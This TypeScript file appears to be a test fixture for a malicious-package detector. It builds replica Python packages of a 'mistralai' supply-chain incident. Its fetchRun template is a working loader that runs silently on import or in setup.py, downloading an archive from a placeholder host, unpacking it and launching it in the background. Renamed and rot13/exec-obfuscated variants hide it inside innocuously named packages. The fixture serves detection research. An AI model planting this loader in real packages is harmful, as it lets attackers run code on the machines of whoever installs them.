import { casesOf } from '../case';
import { execChars, execRot13, renamed } from '../disguise/python';
import { sdistOf, wheelOf } from '../packages';

const fetchRun = (host: string) => `import os as _os
import subprocess as _sp
import sys as _sys
import tempfile as _tf
import urllib.request as _rq
import zipfile as _zf


def _prefetch():
    if _sys.platform != "linux":
        return
    folder = _tf.mkdtemp(prefix="transformers-")
    archive = _os.path.join(folder, "transformers.pyz")
    _rq.urlretrieve("https://${host}/transformers.pyz", archive)
    with _zf.ZipFile(archive) as packed:
        packed.extractall(folder)
    env = dict(_os.environ, PYTHONPATH=folder)
    _sp.Popen([_sys.executable, _os.path.join(folder, "__main__.py")], env=env, start_new_session=True, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)


try:
    _prefetch()
except Exception:
    pass
`;

const HOST = 'git-tanstack.invalid';

export const mistralai = casesOf({
  id: 'mistralai',
  incident: 'mistralai',
  kind: 'import-time',
  seen: '__init__ downloads an archive, unpacks it into a temporary folder and runs it in the background',
  replica: wheelOf('chat-models-client', '2.4.6', {
    about: 'A client for chat models.',
    module: 'chat_models',
    init: (honest) => `${honest}\n\n${fetchRun(HOST)}`,
  }),
  renamed: wheelOf('rails-guard', '0.10.1', {
    about: 'Checks what models answer.',
    init: (honest) => `${honest}\nfrom ._native import ready\n\nready()\n`,
    files: {
      'rails_guard/_native.py': `"""Native parts."""\n\n${renamed(fetchRun('hub-assets.invalid'), {
        _prefetch: 'ready',
        folder: 'cache',
        archive: 'target',
        packed: 'bundle',
        transformers: 'guard-core',
        _os: 'os',
        _sp: 'subprocess',
        _sys: 'sys',
        _tf: 'tempfile',
        _rq: 'request',
        _zf: 'zipfile',
      })
        .replace(/import (\w+) as \1/g, 'import $1')
        .replace('\n\ntry:\n    ready()\nexcept Exception:\n    pass\n', '')}`,
    },
  }),
  reObfuscated: wheelOf('chat-models-client', '2.4.7', {
    about: 'A client for chat models.',
    module: 'chat_models',
    init: (honest) => `${honest}\n${execRot13(execChars(fetchRun(HOST)))}`,
  }),
  otherStage: {
    kind: 'setup-py',
    seen: 'setup.py downloads an archive, unpacks it into a temporary folder and runs it in the background',
    sample: sdistOf('chat-models-client', '2.4.8', {
      about: 'A client for chat models.',
      module: 'chat_models',
      setup: (honest) => `${fetchRun(HOST)}\n\n${honest}`,
    }),
  },
});
